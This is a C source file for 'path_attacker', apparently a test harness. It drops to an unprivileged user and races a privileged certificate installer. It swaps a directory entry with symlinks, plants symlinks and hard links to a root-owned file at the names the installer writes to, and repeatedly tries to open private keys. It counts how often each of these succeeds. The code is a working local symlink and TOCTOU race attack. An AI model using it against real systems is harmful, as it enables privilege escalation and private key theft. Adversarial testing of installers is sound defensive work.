// SPDX-License-Identifier: Apache-2.0
// A user without privileges who plays races against whoever installs sets below a directory of his.
//
//   path_attacker WHERE ENTRY TARGET SHARED SET
//
// Until SIGTERM, as user 65534, in a tight loop: ENTRY of the directory WHERE changes places with a link to
// TARGET, with a directory of the attacker's that looks like a home full of links, and back; the files that
// SET is read by become links and hard links (SHARED is a file of root's that anybody may link to) in WHERE,
// and so do the names that a program would write to next; and every key that can be reached is opened.
//
// Prints "rounds N swaps S plants P tries T keys K": what succeeded. K has to be 0 where keys are not his.
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

enum { kNobody = 65534 };

static volatile sig_atomic_t is_over;
static long rounds, swaps, plants, tries, keys;
static int where;
static const char *entry, *target, *shared, *set;

static const char kLink[] = "decoy-link";
static const char kHome[] = "decoy-home";
static const char kGeneration[] = "decoy-home/20200101T000000Z-deadbeef";
static const char* const kSuffixes[] = {"-key.pem", ".certs", "-ca.pem", ".pem"};
static const char* const kNext[] = {"probe.new", "current.new", "link.new", "copy.new", "adopted"};

static void end(int signal) {
    (void)signal;
    is_over = 1;
}

static void become_nobody(void) {
    const gid_t group = kNobody;
    if (setgroups(1, &group) || setresgid(group, group, group) || setresuid(kNobody, kNobody, kNobody)) {
        perror("path_attacker: giving up root");
        exit(2);
    }
    (void)prctl(PR_SET_PDEATHSIG, SIGKILL);
}

// A home whose current generation is all links, and one file that is root's by another name.
static void make_decoys(void) {
    char path[512];
    (void)symlinkat(target, where, kLink);
    (void)mkdirat(where, kHome, 0755);
    (void)mkdirat(where, kGeneration, 0777);
    (void)symlinkat(strrchr(kGeneration, '/') + 1, where, "decoy-home/current");
    for (size_t i = 0; i < sizeof kNext / sizeof *kNext; ++i) {
        (void)snprintf(path, sizeof path, "%s/%s", kHome, kNext[i]);
        (void)symlinkat(shared, where, path);
    }
    for (size_t i = 0; i < sizeof kSuffixes / sizeof *kSuffixes; ++i) {
        (void)snprintf(path, sizeof path, "%s/%s%s", kGeneration, set, kSuffixes[i]);
        if (i % 2 != 0 || linkat(AT_FDCWD, shared, where, path, 0) != 0) {
            (void)symlinkat(shared, where, path);
        }
    }
}

// There and back, after some nanoseconds or half a millisecond: whoever looks twice sees two things.
static void swap_with(const char* decoy) {
    if (renameat2(where, entry, where, decoy, RENAME_EXCHANGE) == 0) {
        ++swaps;
        for (long wait = 1L << rounds % 21; wait > 0; --wait) {
            __asm__ volatile("");
        }
        (void)renameat2(where, entry, where, decoy, RENAME_EXCHANGE);
    } else if (renameat2(where, decoy, where, entry, RENAME_NOREPLACE) == 0) {
        ++swaps;
        (void)renameat2(where, entry, where, decoy, RENAME_NOREPLACE);
    }
}

// Over whatever lies at the name, as a link of one kind or the other.
static void plant(const char* name) {
    const char* const fresh = "planted";
    (void)unlinkat(where, fresh, 0);
    const int made = rounds % 2 ? symlinkat(shared, where, fresh) : linkat(AT_FDCWD, shared, where, fresh, 0);
    if (made == 0 && renameat(where, fresh, where, name) == 0) {
        ++plants;
    }
    (void)unlinkat(where, name, 0);
}

static void try_key(const char* path) {
    char text[4096];
    const int fd = openat(where, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    ++tries;
    if (fd < 0) {
        return;
    }
    const ssize_t size = read(fd, text, sizeof text);
    if (size > 0 && memmem(text, (size_t)size, "PRIVATE KEY", 11)) {
        ++keys;
    }
    (void)close(fd);
}

static void try_keys(void) {
    static const char* const patterns[] = {"%s-key.pem", ".%s/current/%s-key.pem", ".%s/probe.new", ".%s/copy.new",
                                           ".%s/adopted/%s-key.pem", "certs/%s-key.pem", "certs/.%s/current/%s-key.pem"};
    char path[512];
    for (size_t i = 0; i < sizeof patterns / sizeof *patterns; ++i) {
        (void)snprintf(path, sizeof path, patterns[i], set, set);
        try_key(path);
    }
}

static void play(void) {
    char name[256];
    (void)snprintf(name, sizeof name, "%s%s", set, kSuffixes[rounds % 4]);
    switch (rounds % 8) {
        case 0: case 3: case 6:
            swap_with(kLink);
            break;
        case 1: case 4:
            swap_with(kHome);
            break;
        case 2:
            plant(name);
            break;
        case 5:
            plant(kNext[rounds % (sizeof kNext / sizeof *kNext)]);
            break;
        default:
            try_keys();
            // What was taken from him is made again.
            if (rounds % 1024 == 7) {
                make_decoys();
            }
    }
    ++rounds;
}

int main(int argc, char** argv) {
    if (argc != 6) {
        (void)fprintf(stderr, "usage: path_attacker WHERE ENTRY TARGET SHARED SET\n");
        return 64;
    }
    entry = argv[2];
    target = argv[3];
    shared = argv[4];
    set = argv[5];
    become_nobody();
    (void)signal(SIGTERM, end);
    where = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (where < 0) {
        perror(argv[1]);
        return 2;
    }
    make_decoys();
    while (!is_over) {
        play();
    }
    (void)printf("rounds %ld swaps %ld plants %ld tries %ld keys %ld\n", rounds, swaps, plants, tries, keys);
    return 0;
}
